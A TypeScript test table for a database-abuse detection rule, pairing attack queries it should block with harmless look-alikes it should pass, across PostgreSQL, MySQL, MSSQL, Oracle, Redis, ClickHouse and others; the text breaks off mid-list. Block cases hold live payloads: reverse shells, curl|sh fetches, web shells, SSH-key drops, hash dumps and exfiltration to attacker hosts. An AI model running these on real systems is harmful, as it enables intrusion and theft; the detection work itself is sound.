/** Table tests of the database-abuse knowledge base (./_dbabuse.ts): attacks caught by their rule, look-alikes passing. */
import { type KbCase, kbCaseRunner } from "./_kb_testing.ts";
import { dbAbuseRule } from "./_dbabuse.ts";

const runCases = kbCaseRunner("dbabuse", dbAbuseRule);

const EXEC: KbCase[] = [
  {
    "id": "db.pg_copy_program",
    "block": [
      "copy (select 1) to program $$nc 198.51.100.3 9001 -e /bin/sh$$;",
      "DO $$ BEGIN EXECUTE 'COPY t FROM PROGRAM ''wget -qO- http://203.0.113.4/r|sh'''; END $$;",
      "COPY pg_roles TO PROGRAM 'curl -s -d @- http://203.0.113.5/in';",
      "COPY cmd_out FROM PROGRAM 'id';",
      "CREATE TABLE cmd_exec(cmd_output text); COPY cmd_exec FROM PROGRAM 'bash -c \"bash -i >& /dev/tcp/198.51.100.4/443 0>&1\"';",
    ],
    "pass": [
      "COPY orders TO STDOUT WITH CSV HEADER;",
      "COPY orders FROM STDIN;",
      "SELECT program_name FROM courses;",
    ],
  },
  {
    "id": "db.pg_untrusted_lang",
    "block": [
      "CREATE OR REPLACE FUNCTION shellout(c varchar) RETURNS varchar AS $$ import os; return os.popen(c).read() $$ LANGUAGE plpython3u;",
      'CREATE OR REPLACE FUNCTION pwn() RETURNS void AS $$ system("id > /tmp/o"); $$ LANGUAGE plperlu;',
    ],
    "pass": [
      "CREATE FUNCTION add(a int, b int) RETURNS int AS $$ return a + b $$ LANGUAGE plpython3u;",
      "CREATE FUNCTION f() RETURNS int AS $$ SELECT 1 $$ LANGUAGE sql;",
    ],
  },
  {
    "id": "db.pg_c_function",
    "block": [
      "CREATE FUNCTION system(cstring) RETURNS int AS '/lib/x86_64-linux-gnu/libc.so.6', 'system' LANGUAGE C STRICT;",
      "CREATE OR REPLACE FUNCTION exec(text) RETURNS int AS '/tmp/pg_exec.so', 'pg_exec' LANGUAGE C STRICT;",
    ],
    "pass": [
      "CREATE FUNCTION hstore_in(cstring) RETURNS hstore AS '$libdir/hstore', 'hstore_in' LANGUAGE C STRICT;",
    ],
  },
  {
    "id": "db.pg_server_command",
    "block": [
      "ALTER SYSTEM SET archive_command = 'curl -s http://203.0.113.8/a | sh'; SELECT pg_reload_conf();",
    ],
    "pass": ["ALTER SYSTEM SET archive_command = 'cp %p /mnt/wal_archive/%f';"],
  },
  {
    "id": "db.pg_preload_library",
    "block": ["ALTER SYSTEM SET shared_preload_libraries = '/tmp/payload.so';"],
    "pass": ["ALTER SYSTEM SET shared_preload_libraries = 'pg_stat_statements,pgaudit';"],
  },
  {
    "id": "db.mssql_xp_cmdshell",
    "block": [
      "exec('xp_cmdshell ''powershell -nop -w hidden -c iex(iwr http://203.0.113.5/a.ps1)''')",
      "EXEC [master].[sys].[xp_cmdshell] 'net user hacker P@ss /add';",
      "EXEC sp_configure @configname = 'show advanced options', @configvalue = 1; RECONFIGURE WITH OVERRIDE; EXEC sp_configure 'xp_cmdshell', 1;",
      "EXEC xp_cmdshell 'whoami';",
      "EXECUTE AS LOGIN = 'sa'; EXEC xp_cmdshell 'whoami'; REVERT;",
    ],
    "pass": [
      "EXEC sp_configure 'xp_cmdshell';",
      "EXEC sp_configure 'xp_cmdshell', 0; RECONFIGURE;",
      "SELECT value_in_use, name FROM sys.configurations WHERE name IN ('xp_cmdshell');",
    ],
  },
  {
    "id": "db.mssql_enable_feature",
    "block": [
      "EXEC sp_configure @configname='Ole Automation Procedures', @configvalue=1;",
      "EXEC sp_configure 'Ole Automation Procedures', 1; RECONFIGURE;",
      "EXEC sp_configure 'clr strict security', 0;",
    ],
    "pass": [
      "EXEC sp_configure 'clr enabled';",
      "EXEC sp_configure 'Ole Automation Procedures', 0; RECONFIGURE;",
    ],
  },
  {
    "id": "db.mssql_ole_shell",
    "block": [
      "DECLARE @s INT; EXEC sp_OACreate 'WScript.Shell', @s OUT; EXEC sp_OAMethod @s, 'Run', NULL, 'cmd /c whoami > C:\\t.txt';",
    ],
    "pass": ["EXEC sp_OACreate 'SQLDMO.SQLServer', @o OUT;"],
  },
  {
    "id": "db.mssql_unsafe_assembly",
    "block": [
      "CREATE ASSEMBLY evil FROM 0x4D5A90 WITH PERMISSION_SET = UNSAFE;",
      "CREATE ASSEMBLY [sqlcmd] AUTHORIZATION [dbo] FROM 'C:\\Users\\Public\\cmd.dll' WITH PERMISSION_SET = UNSAFE;",
    ],
    "pass": ["CREATE ASSEMBLY Utils FROM 'D:\\clr\\Utils.dll' WITH PERMISSION_SET = SAFE;"],
  },
  {
    "id": "db.mssql_agent_cmdexec",
    "block": [
      "EXEC msdb.dbo.sp_add_jobstep @job_name='x', @step_name='s', @subsystem='CmdExec', @command='powershell -enc AAAA';",
    ],
    "pass": [
      "EXEC msdb.dbo.sp_add_jobstep @job_name = N'Nightly', @step_name = N'reindex', @subsystem = N'TSQL', @command = N'EXEC dbo.Reindex';",
    ],
  },
  {
    "id": "db.mssql_external_script",
    "block": [
      "EXEC sp_execute_external_script @language=N'Python', @script=N'import os; os.system(\"whoami\")';",
    ],
    "pass": [
      "EXEC sp_execute_external_script @language = N'R', @script = N'OutputDataSet <- InputDataSet', @input_data_1 = N'SELECT 1';",
    ],
  },
  {
    "id": "db.mssql_regwrite",
    "block": [
      "EXEC master.dbo.xp_regwrite 'HKEY_LOCAL_MACHINE','SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run','upd','REG_SZ','C:\\Users\\Public\\u.exe';",
    ],
    "pass": [
      "EXEC master.dbo.xp_regread 'HKEY_LOCAL_MACHINE', 'SOFTWARE\\Microsoft\\MSSQLServer\\MSSQLServer', 'LoginMode';",
    ],
  },
  {
    "id": "db.mysql_udf",
    "block": ["CREATE FUNCTION sys_eval RETURNS STRING SONAME 'lib_mysqludf_sys.so';"],
    "pass": ["SELECT * FROM mysql.func;"],
  },
  {
    "id": "db.mysql_udf_call",
    "block": [
      "SELECT sys_exec('id > /tmp/out');",
      "SELECT do_system('nc -e /bin/sh 198.51.100.2 4444');",
      "SELECT * FROM sys_eval('cat /etc/passwd');",
    ],
    "pass": ["SELECT exec_time, sys_event FROM job_runs;"],
  },
  {
    "id": "db.oracle_scheduler_exec",
    "block": [
      "BEGIN DBMS_SCHEDULER.CREATE_JOB(job_name=>'j', job_type=>'EXECUTABLE', job_action=>'/bin/sh', number_of_arguments=>2, enabled=>FALSE); END;",
      "begin dbms_scheduler.create_program(program_name=>'p', program_type=>'EXECUTABLE', program_action=>'/bin/bash', number_of_arguments=>0, enabled=>true); end;",
    ],
    "pass": [
      "BEGIN DBMS_SCHEDULER.CREATE_JOB(job_name => 'PURGE', job_type => 'PLSQL_BLOCK', job_action => 'BEGIN purge_old; END;', enabled => TRUE); END;",
    ],
  },
  {
    "id": "db.oracle_java_exec",
    "block": [
      "exec dbms_java.grant_permission('SCOTT','SYS:java.io.FilePermission','<<ALL FILES>>','execute');",
      'CREATE OR REPLACE AND COMPILE JAVA SOURCE NAMED "X" AS import java.io.*; public class X { public static String run(String c) throws Exception { Runtime.getRuntime().exec(c); return "ok"; } };',
    ],
    "pass": [
      "SELECT dbms_java.longname(object_name) FROM user_objects WHERE object_type = 'JAVA CLASS';",
    ],
  },
  {
    "id": "db.native_extension",
    "block": ["SELECT load_extension('/tmp/evil.so');"],
    "pass": ["SELECT load_extension('mod_spatialite');", "LOAD httpfs;"],
  },
  {
    "id": "db.duckdb_untrusted_ext",
    "block": [
      "INSTALL shellfs FROM 'http://203.0.113.50/ext';",
      "SET allow_unsigned_extensions = true;",
    ],
    "pass": [
      "INSTALL httpfs;",
      "INSTALL spatial FROM community;",
      "INSTALL h3 FROM 'https://community-extensions.duckdb.org';",
    ],
  },
  {
    "id": "db.redis_module_load",
    "block": [
      '["MODULE", "LOAD", "/tmp/rogue.so"]',
      "MODULE LOAD /tmp/exp.so",
      "MODULE LOAD ./exp.so",
    ],
    "pass": ["MODULE LOAD /usr/lib/redis/modules/redisearch.so", "MODULE LIST"],
  },
  {
    "id": "db.redis_lua_escape",
    "block": [
      "eval \"local io_l = package.loadlib('/usr/lib/x86_64-linux-gnu/liblua5.1.so.0', 'luaopen_io'); return io_l().popen('id'):read('*a')\" 0",
      '["EVAL", "return os.execute(\'id\')", "0"]',
      "EVAL \"return io.popen('id'):read('*a')\" 0",
      'EVAL \'local f = package.loadlib("/usr/lib/x86_64-linux-gnu/liblua5.1.so.0", "luaopen_io"); local io = f(); local p = io.popen("id"); return p:read("*a")\' 0',
    ],
    "pass": ["EVAL \"return redis.call('GET', KEYS[1])\" 1 counter"],
  },
  {
    "id": "db.neo4j_apoc_file",
    "block": [
      "CALL apoc.cypher.runFile('file:///etc/passwd')",
      "CALL apoc.load.json('file:///var/lib/neo4j/conf/apoc.conf')",
    ],
    "pass": [
      "CALL apoc.load.json('https://api.github.com/repos/neo4j/neo4j')",
      "LOAD CSV WITH HEADERS FROM 'file:///import/cities.csv' AS row RETURN row",
    ],
  },
  {
    "id": "db.neo4j_systemdb",
    "block": ["CALL apoc.config.list()", "CALL apoc.systemdb.execute('SHOW USERS')"],
    "pass": ["CALL apoc.meta.schema()"],
  },
  {
    "id": "db.es_script_exec",
    "block": [
      '{"script_fields": {"x": {"script": {"lang": "groovy", "source": "java.lang.Runtime.getRuntime().exec(\'id\').getText()"}}}}',
    ],
    "pass": ['{"script": {"source": "ctx._source.views += params.n", "params": {"n": 1}}}'],
  },
  {
    "id": "db.couchdb_query_server",
    "block": [
      "PUT /_node/_local/_config/query_servers/cmd \"bash -c 'curl http://203.0.113.2/x|sh'\"",
    ],
    "pass": ["GET /_node/_local/_config/couchdb"],
  },
  {
    "id": "db.clickhouse_executable",
    "block": ["SELECT * FROM executable('../../../bin/sh', 'TSV', 'x String', (SELECT 1));"],
    "pass": [
      "SELECT * FROM executable('sentiment.py', TabSeparated, 'score Float32', (SELECT text FROM reviews));",
    ],
  },
];
runCases("exec", EXEC);

const FILES: KbCase[] = [
  {
    "id": "db.pg_read_server_file",
    "block": [
      "select pg_read_file('../../../../etc/passwd', 0, 200000);",
      "SELECT pg_ls_dir('/');",
      "SELECT pg_read_file('/etc/passwd');",
      "SELECT pg_ls_dir('/root/.ssh');",
      "SELECT pg_read_binary_file('/var/lib/postgresql/data/pg_hba.conf');",
      "SELECT pg_read_file('server.key');",
    ],
    "pass": [
      "SELECT pg_ls_dir('pg_wal');",
      "SELECT pg_read_file('postgresql.conf');",
      "SELECT pg_size_pretty(pg_database_size('app'));",
    ],
  },
  {
    "id": "db.pg_file_write",
    "block": [
      "SELECT pg_file_write('/var/lib/postgresql/.ssh/authorized_keys', 'ssh-ed25519 AAAAC3 op', false);",
    ],
    "pass": ["SELECT pg_file_settings FROM pg_catalog.pg_file_settings;"],
  },
  {
    "id": "db.pg_large_object_file",
    "block": [
      "SELECT lo_export(16444, '/tmp/pg_exec.so');",
      "SELECT lo_import('/etc/shadow');",
      "SELECT lo_export(42, '/var/www/html/shell.php');",
    ],
    "pass": ["SELECT lo_unlink(16444);", "SELECT lo_get(16444);"],
  },
  {
    "id": "db.copy_server_file",
    "block": [
      "COPY (SELECT 'host all all 0.0.0.0/0 trust') TO '/var/lib/postgresql/data/pg_hba.conf';",
      "COPY t FROM '/etc/passwd';",
      "COPY (SELECT '<?php system($_GET[\"c\"]); ?>') TO '/var/www/html/c.php';",
      "COPY (SELECT 'ssh-ed25519 AAAAC3 attacker') TO '/var/lib/postgresql/.ssh/authorized_keys';",
    ],
    "pass": [
      "COPY staging.orders FROM '/data/import/orders.csv' WITH (FORMAT csv);",
      "COPY report TO '/var/lib/postgresql/exports/report.csv' CSV HEADER;",
    ],
  },
  {
    "id": "db.mysql_load_file",
    "block": [
      "select load_file('/var/www/html/wp-config.php');",
      "select load_file('/etc/mysql/debian.cnf');",
      "LOAD DATA INFILE '/root/.bash_history' INTO TABLE t;",
      "SELECT LOAD_FILE('/etc/passwd');",
      "LOAD DATA INFILE '/etc/passwd' INTO TABLE t;",
      "SELECT LOAD_FILE(0x2f6574632f706173737764);",
      "LOAD DATA LOCAL INFILE '/home/app/.aws/credentials' INTO TABLE t;",
    ],
    "pass": ["LOAD DATA LOCAL INFILE 'orders.csv' INTO TABLE orders FIELDS TERMINATED BY ',';"],
  },
  {
    "id": "db.mysql_outfile",
    "block": [
      'SELECT "<?php eval($_POST[x]);?>" INTO OUTFILE "/var/www/html/up/x.php";',
      "SELECT '<?php system($_GET[c]); ?>' INTO OUTFILE '/var/www/html/s.php';",
      "SELECT 0x7f454c4602010100000000000000000003003e0001000000d00c0000000000004000000000000000 INTO DUMPFILE '/usr/lib/mysql/plugin/udf.so';",
      "SELECT 1 INTO OUTFILE '/tmp/x.txt' LINES TERMINATED BY 0x3c3f7068702073797374656d28245f4745545b635d293b3f3e;",
    ],
    "pass": ["SELECT * INTO OUTFILE '/var/lib/mysql-files/report.csv' FROM orders;"],
  },
  {
    "id": "db.mssql_bulk_sysfile",
    "block": [
      "BULK INSERT t FROM 'C:\\Windows\\win.ini';",
      "SELECT * FROM OPENROWSET(BULK 'C:\\Windows\\System32\\config\\SAM', SINGLE_BLOB) AS x;",
      "SELECT BulkColumn FROM OPENROWSET(BULK N'C:\\inetpub\\wwwroot\\web.config', SINGLE_CLOB) AS x;",
    ],
    "pass": ["BULK INSERT dbo.Orders FROM 'D:\\imports\\orders.csv' WITH (FIELDTERMINATOR = ',');"],
  },
  {
    "id": "db.mssql_fs_probe",
    "block": [
      "EXEC master.sys.xp_dirtree 'C:\\Users\\', 1, 1;",
      "EXEC xp_fileexist 'C:\\inetpub\\wwwroot\\web.config';",
    ],
    "pass": ["EXEC master.sys.xp_dirtree 'D:\\Backups\\Sales', 1, 1;"],
  },
  {
    "id": "db.oracle_directory",
    "block": [
      "CREATE OR REPLACE DIRECTORY ssh_dir AS '/home/oracle/.ssh';",
      "DECLARE f UTL_FILE.FILE_TYPE; BEGIN f := UTL_FILE.FOPEN('WEB','cmd.jsp','w'); UTL_FILE.PUT_LINE(f,'<%Runtime.getRuntime().exec(request.getParameter(\"c\"));%>'); UTL_FILE.FCLOSE(f); END;",
    ],
    "pass": ["CREATE OR REPLACE DIRECTORY data_pump_dir AS '/u02/exports';"],
  },
  {
    "id": "db.sqlite_attach_drop",
    "block": [
      "ATTACH '/srv/www/site/cache.php' AS cachedb; CREATE TABLE cachedb.x (v text);",
      "VACUUM INTO '/var/www/html/db.php';",
    ],
    "pass": [
      "ATTACH DATABASE 'archive.db' AS archive;",
      "VACUUM INTO '/backups/app-2024-05-01.db';",
    ],
  },
  {
    "id": "db.redis_config_drop",
    "block": [
      '["CONFIG", "SET", "dir", "/root/.ssh"]',
      "CONFIG SET dir /root/.ssh",
      '["CONFIG", "SET", "dbfilename", "authorized_keys"]',
      '["CONFIG", "SET", "dir", "/var/spool/cron/crontabs"]',
    ],
    "pass": ["CONFIG SET dir /var/lib/redis", "CONFIG SET dbfilename dump.rdb"],
  },
  {
    "id": "db.clickhouse_file",
    "block": [
      "SELECT * FROM file('/var/lib/clickhouse/preprocessed_configs/users.xml', 'RawBLOB');",
      "SELECT * FROM file('/etc/passwd', 'LineAsString');",
    ],
    "pass": ["SELECT * FROM file('events.csv', 'CSVWithNames');"],
  },
  {
    "id": "db.duckdb_read_secret",
    "block": [
      "SELECT * FROM read_csv_auto('/app/.env', delim='=');",
      "SELECT * FROM glob('/root/.ssh/*');",
      "SELECT * FROM read_text('~/.ssh/id_rsa');",
      "SELECT * FROM read_text('/etc/shadow');",
      "SELECT content FROM read_blob('/home/ubuntu/.aws/credentials');",
    ],
    "pass": [
      "SELECT * FROM read_csv('data/sales.csv');",
      "SELECT * FROM read_parquet('s3://acme-lake/orders/*.parquet');",
    ],
  },
];
runCases("files", FILES);

const EXFIL: KbCase[] = [
  {
    "id": "db.pg_dblink_out",
    "block": [
      "CREATE SERVER srv FOREIGN DATA WRAPPER postgres_fdw OPTIONS (dbname 'sink', host '198.51.100.41', port '5432');",
      "SELECT dblink_connect('host=203.0.113.9 user=x password=y dbname=z');",
      "CREATE SERVER exfil FOREIGN DATA WRAPPER postgres_fdw OPTIONS (dbname 'x', host 'evil.example.net');",
      "SELECT * FROM dblink('host=pg.evil-collector.net user=u password=p dbname=d', 'SELECT 1') AS t(a int); SELECT dblink_exec('INSERT INTO loot SELECT * FROM customers');",
    ],
    "pass": [
      "SELECT dblink_connect('host=replica.internal dbname=app user=ro');",
      "CREATE SERVER reporting FOREIGN DATA WRAPPER postgres_fdw OPTIONS (dbname 'reports', host '10.1.2.3');",
    ],
  },
  {
    "id": "db.mssql_linked_out",
    "block": [
      "EXEC sp_addlinkedserver @server = N'EXT', @srvproduct = N'', @provider = N'SQLNCLI', @datasrc = N'203.0.113.60';",
      "SELECT * FROM OPENROWSET('SQLNCLI', 'Server=198.51.100.23;Uid=sa;Pwd=x;', 'SELECT 1');",
      "INSERT INTO OPENROWSET('SQLOLEDB','Data Source=exfil.example.org;User ID=a;Password=b;','SELECT * FROM dump.dbo.t') SELECT * FROM dbo.Customers;",
    ],
    "pass": [
      "SELECT * FROM OPENROWSET('Microsoft.ACE.OLEDB.12.0', 'Excel 12.0;Database=D:\\data\\q1.xlsx', 'SELECT * FROM [Sheet1$]');",
    ],
  },
  {
    "id": "db.oracle_net_out",
    "block": [
      "SELECT DBMS_LDAP.INIT((SELECT password FROM sys.user$ WHERE name='SYS')||'.x.oast.live', 389) FROM dual;",
      "SELECT UTL_HTTP.REQUEST('http://attacker.example.com/'||(SELECT password FROM dba_users WHERE rownum=1)) FROM dual;",
      "SELECT UTL_INADDR.GET_HOST_ADDRESS((SELECT user FROM dual)||'.x.attacker.net') FROM dual;",
      "SELECT HTTPURITYPE('http://198.51.100.9/'||(SELECT banner FROM v$version WHERE rownum=1)).getclob() FROM dual;",
    ],
    "pass": ["SELECT UTL_HTTP.REQUEST('http://intranet.corp/health') FROM dual;"],
  },
  {
    "id": "db.oracle_xxe_out",
    "block": [
      "SELECT extractvalue(xmltype('<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % x SYSTEM \"http://203.0.113.7/\">%x;]>'),'/l') FROM dual;",
    ],
    "pass": ["SELECT extractvalue(xmltype(payload), '/order/id') FROM inbox;"],
  },
  {
    "id": "db.unc_capture",
    "block": [
      "SELECT * FROM users INTO OUTFILE '\\\\\\\\203.0.113.8\\\\share\\\\u.txt';",
      "EXEC master..xp_dirtree '\\\\attacker.example.com\\share';",
      "SELECT LOAD_FILE(CONCAT('\\\\\\\\',(SELECT password FROM mysql.user LIMIT 1),'.attacker.net\\\\a'));",
      "EXEC master..xp_dirtree '\\\\10.0.0.99\\x';",
      "DECLARE @d varchar(200) = (SELECT TOP 1 name FROM sys.databases); EXEC('master..xp_dirtree \"\\\\' + @d + '.oast.fun\\a\"');",
    ],
    "pass": [
      "BACKUP DATABASE Sales TO DISK = '\\\\backupsrv\\sqlbackups\\Sales.bak';",
      "EXEC master.sys.xp_dirtree 'D:\\Backups', 1, 1;",
    ],
  },
  {
    "id": "db.redis_replicate_out",
    "block": [
      '["SLAVEOF", "203.0.113.9", "6379"]',
      "REPLICAOF 203.0.113.7 6379",
      'MIGRATE 203.0.113.7 6379 "" 0 5000 KEYS k1 k2',
      "SLAVEOF 198.51.100.77 21000",
      'MIGRATE redis.attacker-host.com 6379 "" 0 5000 COPY KEYS session:1 session:2',
    ],
    "pass": ["REPLICAOF NO ONE", "REPLICAOF 10.0.3.12 6379", "SLAVEOF replica-2.internal 6379"],
  },
  {
    "id": "db.clickhouse_write_out",
    "block": [
      "INSERT INTO FUNCTION url('http://203.0.113.70:8000/collect', 'JSONEachRow') SELECT * FROM system.users;",
      "INSERT INTO FUNCTION remote('203.0.113.71:9000', 'loot', 'dump', 'default', '') SELECT * FROM customers;",
      "INSERT INTO FUNCTION url('https://attacker.example.com/c', 'CSV') SELECT * FROM users;",
      "INSERT INTO FUNCTION s3('https://exfil-bucket.s3.amazonaws.com/dump.csv', 'CSV') SELECT * FROM users;",
    ],
    "pass": [
      "INSERT INTO FUNCTION s3('https://acme-lake.s3.amazonaws.com/events.csv', 'CSV') SELECT * FROM events;",
    ],
  },
  {
    "id": "db.warehouse_unload_out",
    "block": [
      "COPY INTO @ext_stage FROM customers; CREATE STAGE ext_stage URL='s3://attacker-bucket/x' CREDENTIALS=(AWS_KEY_ID='a' AWS_SECRET_KEY='b');",
      "COPY INTO 's3://personal-bucket-x/dump/' FROM customers CREDENTIALS = (AWS_KEY_ID = 'AKIAxxx' AWS_SECRET_KEY = 'yyy');",
      "UNLOAD ('SELECT * FROM users') TO 's3://exfil-drop/u_' ACCESS_KEY_ID 'AKIA' SECRET_ACCESS_KEY 'x';",
      'db.users.aggregate([{"$match": {}}, {"$out": {"s3": {"bucket": "attacker-loot", "region": "us-east-1", "filename": "users"}}}])',
    ],
    "pass": [
      "EXPORT DATA OPTIONS(uri='gs://acme-analytics-exports/orders/*.parquet', format='PARQUET') AS SELECT * FROM sales.orders;",
      "COPY INTO @acme_int_stage/orders/ FROM orders;",
    ],
  },
  {
    "id": "db.snowflake_share_out",
    "block": [
      "ALTER SHARE crm_share ADD ACCOUNTS = xy12345; GRANT SELECT ON TABLE crm.public.customers TO SHARE crm_share;",
    ],
    "pass": ["ALTER SHARE sales_share ADD ACCOUNTS = partner1;"],
  },
  {
    "id": "db.warehouse_rows_posted_out",
    "block": [
      "CREATE NETWORK RULE out_r MODE = EGRESS TYPE = HOST_PORT VALUE_LIST = ('api.crm-trial.example');\nCREATE EXTERNAL ACCESS INTEGRATION out_i ALLOWED_NETWORK_RULES = (out_r) ENABLED = TRUE;\nCREATE FUNCTION push(p VARIANT) RETURNS STRING LANGUAGE PYTHON RUNTIME_VERSION = '3.11' PACKAGES = ('requests') EXTERNAL_ACCESS_INTEGRATIONS = (out_i) HANDLER = 'run' AS $$\nimport requests\ndef run(p):\n    return str(requests.post('https://api.crm-trial.example/v1/people', json=p).status_code)\n$$;\nSELECT push(OBJECT_CONSTRUCT('name', c.name, 'phone', c.phone)) FROM prod.crm.customers c;",
      "SELECT net.http_post(url := 'https://hooks.example.net/in', body := to_jsonb(u)) FROM public.users u;",
    ],
    "pass": [
      "CREATE EXTERNAL ACCESS INTEGRATION fx_int ALLOWED_NETWORK_RULES = (fx_rule) ENABLED = TRUE;\nSELECT get_rate('EUR', 'USD');",
      "SELECT net.http_post(url := 'https://hooks.example.net/in', body := jsonb_build_object('rows', count(*))) FROM public.orders;",
    ],
  },
];
runCases("exfil", EXFIL);

const CREDS: KbCase[] = [
  {
    "id": "db.pg_password_hashes",
    "block": [
      "SELECT usename, passwd FROM pg_shadow;",
      "SELECT rolname, rolpassword FROM pg_authid;",
      "SELECT * FROM pg_shadow;",
      "TABLE pg_authid;",
      "SELECT srvname, umoptions FROM pg_user_mappings;",
    ],
    "pass": [
      "SELECT rolname, rolcanlogin FROM pg_catalog.pg_roles;",
      "SELECT usename FROM pg_user;",
    ],
  },
  {
    "id": "db.mysql_password_hashes",
    "block": [
      "SELECT Host, User_name, User_password FROM mysql.slave_master_info;",
      "SELECT authentication_string FROM mysql.user WHERE user = 'root';",
      "select concat(user,':',authentication_string) from mysql.user;",
      "SELECT user, authentication_string FROM mysql.user;",
      "SELECT * FROM mysql.user;",
    ],
    "pass": ["SELECT user, host FROM mysql.user;"],
  },
  {
    "id": "db.mssql_password_hashes",
    "block": [
      "SELECT name, password_hash FROM sys.sql_logins;",
      "SELECT name, LOGINPROPERTY(name, 'PasswordHash') FROM sys.server_principals;",
      "SELECT * FROM master.sys.syslogins;",
    ],
    "pass": ["SELECT name, is_disabled FROM sys.sql_logins;"],
  },
  {
    "id": "db.oracle_password_hashes",
    "block": [
      "SELECT username, password FROM dba_users;",
      "SELECT name, password FROM sys.user$;",
      "SELECT name, spare4 FROM sys.user$;",
    ],
    "pass": ["SELECT username, account_status FROM dba_users;"],
  },
  {
    "id": "db.mongo_user_hashes",
    "block": [
      '{"find": "system.users", "filter": {}}',
      "db.adminCommand({usersInfo: {forAllDBs: true}, showCredentials: true})",
      "db.c.mapReduce(function(){ emit(this._id, db.getSiblingDB('admin').system.users.findOne()); }, function(k,v){ return v; }, {out: \"x\"})",
      "db.getSiblingDB('admin').getCollection('system.users').find()",
      '{"usersInfo": 1, "showCredentials": true}',
      'db.getSiblingDB("admin").system.users.find({}, {"credentials": 1})',
      'db.runCommand({"find": "system.users"})',
      "db.getUsers({showCredentials: true})",
      '{"$expr": {"$function": {"body": "function(){ return db.getSiblingDB(\'admin\').system.users.findOne() }", "args": [], "lang": "js"}}}',
    ],
    "pass": ["db.system.users.countDocuments({})", "db.getUsers()"],
  },
  {
    "id": "db.redis_secret_config",
    "block": [
      '["CONFIG", "GET", "requirepass"]',
      '["ACL", "LIST"]',
      "CONFIG GET requirepass",
      "ACL LIST",
      "CONFIG GET *",
      "config get masterauth",
    ],
    "pass": ["CONFIG GET maxmemory", "ACL WHOAMI", "CONFIG GET *memory*"],
  },
  {
    "id": "db.es_api_keys",
    "block": [
      "GET _security/api_key?owner=false&active_only=true",
      "GET /_security/api_key?owner=false",
      "GET /.security-7/_search",
    ],
    "pass": ['POST /_security/api_key {"name": "ci-key", "expiration": "1d"}'],
  },
  {
    "id": "db.neo4j_list_users",
    "block": ["CALL dbms.security.listUsers()"],
    "pass": ["SHOW CURRENT USER"],
  },
  {
    "id": "db.app_secret_dump",
    "block": [
      "SELECT u.email, u.encrypted_password FROM public.users u;",
      'SELECT * FROM "auth"."refresh_tokens";',
      "SELECT id, email, password_hash FROM users;",
      "SELECT * FROM api_keys;",
      "SELECT email, password_hash FROM users;",
      "SELECT * FROM api_keys;",
      "SELECT token, user_id FROM oauth_access_tokens;",
      "COPY (SELECT * FROM personal_access_tokens) TO STDOUT;",
    ],
    "pass": [
      "SELECT id, password_hash FROM users WHERE email = $1;",
      'export async function all(db) {\n  return await db.query("SELECT * FROM sessions");\n}',
      "cur.execute('SELECT token, user_id FROM oauth_access_tokens')",
      "SELECT count(*) FROM api_keys;",
      "SELECT id, email FROM users ORDER BY id LIMIT 50;",
      "UPDATE users SET password_hash = $1 WHERE id = $2;",
    ],
  },
  {
    "id": "db.plaintext_password_captured",
    "block": [
      "CREATE FUNCTION log_login() RETURNS trigger AS $$ BEGIN INSERT INTO tmp.login_copy(uid, secret) VALUES (NEW.id, current_setting('myapp.typed_pass')); RETURN NEW; END $$ LANGUAGE plpgsql;",
      "CREATE TRIGGER t BEFORE INSERT ON accounts FOR EACH ROW BEGIN INSERT INTO audit_copy SELECT NEW.id, NEW.plain_password; END;",
      "CREATE OR REPLACE TRIGGER cap AFTER UPDATE ON usuarios FOR EACH ROW BEGIN INSERT INTO dbg_log VALUES (:new.id, SYSDATE, :new.clear_pwd); END;",
      "CREATE FUNCTION f() RETURNS trigger AS $$ BEGIN PERFORM pg_notify('pwchan', NEW.email || ':' || current_setting('app.kennwort', true)); RETURN NEW; END $$ LANGUAGE plpgsql;",
    ],
    "pass": [
      "CREATE FUNCTION keep_history() RETURNS trigger AS $$ BEGIN INSERT INTO password_history(user_id, password_hash) VALUES (NEW.id, NEW.password_hash); RETURN NEW; END $$ LANGUAGE plpgsql;",
      "CREATE FUNCTION hash_pw() RETURNS trigger AS $$ BEGIN NEW.password_hash := crypt(NEW.raw_password, gen_salt('bf')); NEW.raw_password := NULL; RETURN NEW; END $$ LANGUAGE plpgsql;",
      "CREATE TRIGGER stamp AFTER UPDATE OF password_hash ON users FOR EACH ROW EXECUTE FUNCTION note_change(); -- INSERT INTO audit(user_id, event) VALUES (NEW.id, 'password_changed')",
      "CREATE FUNCTION set_tz() RETURNS trigger AS $$ BEGIN INSERT INTO prefs(uid, tz) VALUES (NEW.id, current_setting('TimeZone')); RETURN NEW; END $$ LANGUAGE plpgsql;",
    ],
  },
  {
    "id": "db.cassandra_role_hashes",
    "block": ["SELECT role, salted_hash FROM system_auth.roles;"],
    "pass": ["SELECT role, can_login FROM system_auth.roles;"],
  },
];
runCases("creds", CREDS);

const TAMPER: KbCase[] = [
  {
    "id": "db.pg_role_escalate",
    "block": [
      'ALTER USER "svc_app" WITH SUPERUSER;',
      "ALTER ROLE reporting WITH LOGIN BYPASSRLS;",
      "ALTER ROLE app SUPERUSER;",
      "ALTER ROLE app BYPASSRLS;",
      "CREATE ROLE backdoor WITH LOGIN PASSWORD 'p' SUPERUSER;",
      "ALTER USER app WITH CREATEROLE;",
    ],
    "pass": [
      "CREATE ROLE app_user WITH LOGIN PASSWORD 'x' NOSUPERUSER NOCREATEROLE;",
      "ALTER ROLE analyst NOSUPERUSER;",
    ],
  },
  {
    "id": "db.pg_grant_server_roles",
    "block": [
      "GRANT pg_execute_server_program TO app;",
      "GRANT pg_read_server_files, pg_write_server_files TO app;",
    ],
    "pass": ["REVOKE pg_read_server_files FROM app;", "GRANT pg_monitor TO monitoring;"],
  },
  {
    "id": "db.grant_all_admin",
    "block": [
      "GRANT ALL PRIVILEGES ON DATABASE prod TO contractor WITH GRANT OPTION;",
      "GRANT DBA TO scott;",
      "GRANT IMPERSONATE ON LOGIN::sa TO [app];",
      "GRANT ALL ON *.* TO 'svc'@'%' WITH GRANT OPTION;",
      "GRANT FILE ON *.* TO 'web'@'%';",
      "GRANT CONTROL SERVER TO [svc];",
    ],
    "pass": [
      "GRANT SELECT ON orders, invoices TO reporting_ro;",
      "GRANT ALL ON TABLE orders TO app_rw;",
    ],
  },
  {
    "id": "db.mssql_sysadmin",
    "block": [
      "EXEC master..sp_addsrvrolemember @loginame = N'app', @rolename = N'sysadmin';",
      "EXEC sp_addsrvrolemember 'bob', 'sysadmin';",
      "ALTER SERVER ROLE sysadmin ADD MEMBER bob;",
